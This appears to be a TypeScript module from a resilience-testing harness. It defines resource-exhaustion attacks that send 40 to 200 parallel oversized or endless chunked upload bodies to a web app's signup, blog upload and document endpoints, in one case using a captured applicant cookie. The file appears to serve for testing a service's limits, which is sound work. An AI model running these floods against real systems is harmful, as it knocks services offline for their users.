import type { Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { getStatus } from './slow-attacks';
import { openSocket, type Attack, type Stage } from './stage';

const CHUNK = Buffer.alloc(64 * 1_024, 'x');
const PAUSE_MS = 5;

interface Bulk {
  readonly parallel: number;
  readonly path: string;
  /** Body length; undefined for an endless chunked body. */
  readonly bytes?: number;
  readonly cookie?: (stage: Stage) => string;
}

/** Uploads many bodies at full speed and restarts each one at its end. */
function bulk(given: Bulk): Attack {
  return async (stage) => {
    await Promise.all(
      Array.from({ length: given.parallel }, async (_, number) => {
        while (stage.isOn()) {
          await sendBody(stage, number, given);
          await wait(PAUSE_MS);
        }
      }),
    );
  };
}

async function sendBody(stage: Stage, number: number, { path, bytes, cookie }: Bulk) {
  const socket = openSocket(stage, Math.floor(number / 20));
  let isAnswered = false;
  socket.once('data', (answer: Buffer) => {
    isAnswered = true;
    stage.tally.add(getStatus(answer));
    socket.end();
  });
  const { host } = new URL(stage.origin);
  const length =
    bytes === undefined ? 'Transfer-Encoding: chunked' : `Content-Length: ${String(bytes)}`;
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${stage.origin}\r\n${length}\r\n` +
      `${cookie ? `Cookie: ${cookie(stage)}\r\n` : ''}Content-Type: multipart/form-data; boundary=x\r\n\r\n`,
  );
  const closed = happens(socket, 'close');
  for (let sent = 0; sent < (bytes ?? Infinity) && stage.isOn(); sent += CHUNK.length) {
    if (socket.destroyed || isAnswered) break;
    const part = CHUNK.subarray(0, Math.min(CHUNK.length, (bytes ?? Infinity) - sent));
    if (bytes === undefined) socket.write(`${part.length.toString(16)}\r\n`);
    const hasRoom = socket.write(part);
    if (bytes === undefined) socket.write('\r\n');
    if (!hasRoom) await Promise.race([happens(socket, 'drain'), closed]);
  }
  if (!socket.destroyed) await Promise.race([closed, wait(5_000)]);
  if (!isAnswered) stage.tally.add('cut off');
  socket.destroy();
}

function happens(socket: Socket, event: 'drain' | 'close'): Promise<void> {
  return new Promise((resolve) => socket.once(event, () => resolve()));
}

export const endlessBodies = bulk({ parallel: 100, path: '/signup' });

/** 200 bodies of 30 MB by strangers, to a page that accepts that size from administrators. */
export const bigBodiesByStrangers = bulk({ parallel: 200, path: '/blogupload', bytes: 30_000_000 });

/** Bodies of undeclared length. */
export const bigChunkedBodies = bulk({ parallel: 200, path: '/document' });

/** 40 bodies of 16 MB by an applicant, who is allowed to send that size. */
export const bigBodiesByApplicant = bulk({
  parallel: 40,
  path: '/document',
  bytes: 16_000_000,
  cookie: ({ loot }) => loot.applicant,
});
